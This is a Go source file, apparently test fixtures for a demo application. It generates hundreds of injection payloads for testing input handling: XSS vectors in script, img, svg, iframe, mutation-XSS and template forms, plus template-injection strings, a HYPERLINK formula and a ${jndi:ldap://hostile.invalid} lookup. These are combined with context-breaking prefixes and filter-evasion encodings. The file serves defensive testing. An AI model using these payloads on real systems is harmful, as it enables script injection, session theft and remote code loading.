package demo

import (
	"fmt"
	"strings"
)

// A payload calls patchworkRan with its number if it runs, and asks hostile.invalid if it
// loads: whoever shows it only has to watch for those two.

// hostileVectors are the ways in which markup, style sheets, addresses, templates and
// formulas come to run or to load something; %d is the payload's number.
func hostileVectors() []string {
	return []string{
		`<script>patchworkRan(%d)</script>`,
		`<script src=//hostile.invalid/%d></script>`,
		`<img src=x onerror=patchworkRan(%d)>`,
		`<img src=//hostile.invalid/%d>`,
		`<svg onload=patchworkRan(%d)>`,
		`<svg><animate onbegin=patchworkRan(%d) attributeName=x dur=1s>`,
		`<svg><use href="//hostile.invalid/%d#x"></use></svg>`,
		`<iframe srcdoc="<script>parent.patchworkRan(%d)</script>"></iframe>`,
		`<iframe src="javascript:parent.patchworkRan(%d)"></iframe>`,
		`<a href="javascript:patchworkRan(%d)">press</a>`,
		`<object data="//hostile.invalid/%d"></object>`,
		`<embed src=//hostile.invalid/%d>`,
		`<link rel=stylesheet href=//hostile.invalid/%d>`,
		`<style>@import url(//hostile.invalid/%d);</style>`,
		`<div style="background:url(//hostile.invalid/%d)">`,
		`<meta http-equiv=refresh content="0;url=//hostile.invalid/%d">`,
		`<base href=//hostile.invalid/%d/>`,
		`<input autofocus onfocus=patchworkRan(%d)>`,
		`<details open ontoggle=patchworkRan(%d)>`,
		`<video><source onerror=patchworkRan(%d)></video>`,
		`<body onload=patchworkRan(%d)>`,
		`<form action=//hostile.invalid/><button formaction="javascript:patchworkRan(%d)">Go</button></form>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=patchworkRan(%d)></style></mglyph></table></mtext></math>`,
		`<noscript><p title="</noscript><img src=x onerror=patchworkRan(%d)>"></noscript>`,
		`<template shadowrootmode=open><img src=x onerror=patchworkRan(%d)></template>`,
		`{{constructor.constructor('patchworkRan(%d)')()}}`,
		`${patchworkRan(%d)}`,
		`<%%= patchworkRan(%d) %%>`,
		`';patchworkRan(%d);//`,
		`";patchworkRan(%d);//`,
		"`-patchworkRan(%d)-`",
		`javascript:patchworkRan(%d)`,
		`data:text/html,<script>parent.patchworkRan(%d)</script>`,
		`=HYPERLINK("//hostile.invalid/%d","press")`,
		`${jndi:ldap://hostile.invalid/%d}`,
	}
}

// hostileContexts end what a careless program may have put a text into.
func hostileContexts() []string {
	return []string{"", `">`, `'>`, `-->`, `]]>`, `</script>`, `</textarea></title></style>`}
}

// hostileEncodings write a payload so that only a careless decoder reads it.
func hostileEncodings() []func(string) string {
	entities := func(format string) func(string) string {
		return func(s string) string {
			var b strings.Builder
			for _, r := range s {
				if strings.ContainsRune(`<>"'&:`, r) {
					fmt.Fprintf(&b, format, r)
				} else {
					b.WriteRune(r)
				}
			}
			return b.String()
		}
	}
	pairs := func(pairs ...string) func(string) string { return strings.NewReplacer(pairs...).Replace }
	return []func(string) string{
		entities("&#%d;"),
		entities("&#x%x"),
		entities("%%%02X"),
		entities("%%25%02X"),
		entities(`\u%04x`),
		pairs("<", "&lt;", ">", "&gt;", `"`, "&quot;"),
		pairs("<", "＜", ">", "＞", `"`, "＂"),
		pairs("<", "+ADw-", ">", "+AD4-"),
		pairs("script", "scr\tipt", "on", "\non", "<img", "<IMG/", "<svg", "<sVg/"),
	}
}

// HostilePayloads are texts that run or load something where a text from a source is
// taken for anything but text: every vector out of every context, and the first vectors in
// every encoding. All are different, and their order is always the same.
func HostilePayloads() []string {
	var all []string
	seen := map[string]bool{}
	add := func(vector, context string, encode func(string) string) {
		text := encode(context + fmt.Sprintf(vector, len(all)+1))
		if !seen[text] {
			seen[text] = true
			all = append(all, text)
		}
	}
	for _, vector := range hostileVectors() {
		for _, context := range hostileContexts() {
			add(vector, context, func(s string) string { return s })
		}
	}
	const enough = 18
	for _, vector := range hostileVectors()[:enough] {
		for _, encode := range hostileEncodings() {
			add(vector, "", encode)
		}
	}
	return all
}

// PlainTexts are what clinicians write and careless programs alter, and names that mean
// something to a program.
func PlainTexts() []string {
	return []string{"BP <140", "O'Neil", "=5mg", "a&amp;b", "pulse >60 & rising", "-1 unit", "@home", "+ve", "50% \\ 100%", "__proto__", "constructor", "null", "undefined", "NaN", "true", "0"}
}
